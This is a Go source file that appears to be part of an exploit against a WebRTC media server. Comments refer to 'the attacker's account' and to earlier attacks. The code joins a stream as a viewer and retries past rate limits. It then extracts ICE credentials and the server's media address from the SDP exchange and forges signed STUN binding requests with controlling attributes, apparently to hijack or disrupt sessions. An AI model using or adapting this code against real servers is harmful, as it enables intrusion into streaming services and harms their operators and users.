package main

import (
	"context"
	"fmt"
	"strings"
	"time"

	"backstage/media/internal/session"

	"github.com/pion/stun/v4"
	"github.com/pion/webrtc/v4"
)

// member is a connection that the attacker's account is allowed to have.
type member struct {
	peer    *webrtc.PeerConnection
	session session.Session
	ssrc    uint32
	// The server's media address, and the credentials that sign requests to it.
	server, username, password string
}

// join watches like any viewer and waits for video.
func (t *target) join() (*member, error) {
	peer, err := newViewer()
	if err != nil {
		return nil, err
	}
	m := &member{peer: peer}
	ssrc := make(chan uint32, 1)
	peer.OnTrack(func(track *webrtc.TrackRemote, _ *webrtc.RTPReceiver) {
		if track.Kind() == webrtc.RTPCodecTypeVideo {
			ssrc <- uint32(track.SSRC())
		}
		for {
			if _, _, err := track.ReadRTP(); err != nil {
				return
			}
		}
	})
	access := session.Access{Cookie: t.Cookie}
	m.session, err = session.Negotiate(context.Background(), peer, t.Whep, access)
	// The previous attack may have used up the account's offers.
	for range 5 {
		if err == nil || !strings.HasPrefix(err.Error(), "429") {
			break
		}
		time.Sleep(time.Second)
		m.session, err = session.Negotiate(context.Background(), peer, t.Whep, access)
	}
	if err != nil {
		return nil, err
	}
	select {
	case m.ssrc = <-ssrc:
	case <-time.After(5 * time.Second):
		return nil, fmt.Errorf("no picture came")
	}
	theirs, ours := peer.RemoteDescription().SDP, peer.LocalDescription().SDP
	m.username = line(theirs, "a=ice-ufrag:") + ":" + line(ours, "a=ice-ufrag:")
	m.password = line(theirs, "a=ice-pwd:")
	fields := strings.Fields(line(theirs, "a=candidate:"))
	if len(fields) < 6 {
		return nil, fmt.Errorf("the answer has no candidate")
	}
	m.server = fields[4] + ":" + fields[5]
	return m, nil
}

// check is a STUN request like those of the member's own ICE agent.
func (m *member) check() []byte {
	message, err := stun.Build(stun.TransactionID, stun.BindingRequest, stun.NewUsername(m.username),
		priority(1853824767), controlling(7), stun.NewShortTermIntegrity(m.password), stun.Fingerprint)
	if err != nil {
		panic(err)
	}
	return message.Raw
}

type priority uint32

func (p priority) AddTo(m *stun.Message) error {
	m.Add(stun.AttrPriority, []byte{byte(p >> 24), byte(p >> 16), byte(p >> 8), byte(p)})
	return nil
}

type controlling byte

func (c controlling) AddTo(m *stun.Message) error {
	m.Add(stun.AttrICEControlling, []byte{0, 0, 0, 0, 0, 0, 0, byte(c)})
	return nil
}

func newViewer() (*webrtc.PeerConnection, error) {
	peer, err := webrtc.NewPeerConnection(webrtc.Configuration{})
	if err != nil {
		return nil, err
	}
	only := webrtc.RTPTransceiverInit{Direction: webrtc.RTPTransceiverDirectionRecvonly}
	for _, kind := range []webrtc.RTPCodecType{webrtc.RTPCodecTypeVideo, webrtc.RTPCodecTypeAudio} {
		if _, err = peer.AddTransceiverFromKind(kind, only); err != nil {
			return nil, err
		}
	}
	return peer, nil
}

// offerText is the offer of a peer that never connects.
func offerText() (string, error) {
	peer, err := newViewer()
	if err != nil {
		return "", err
	}
	defer peer.Close()
	offer, err := peer.CreateOffer(nil)
	return offer.SDP, err
}

// line returns the rest of the first line that begins with start.
func line(sdp, start string) string {
	_, rest, _ := strings.Cut(sdp, start)
	value, _, _ := strings.Cut(rest, "\r\n")
	return value
}
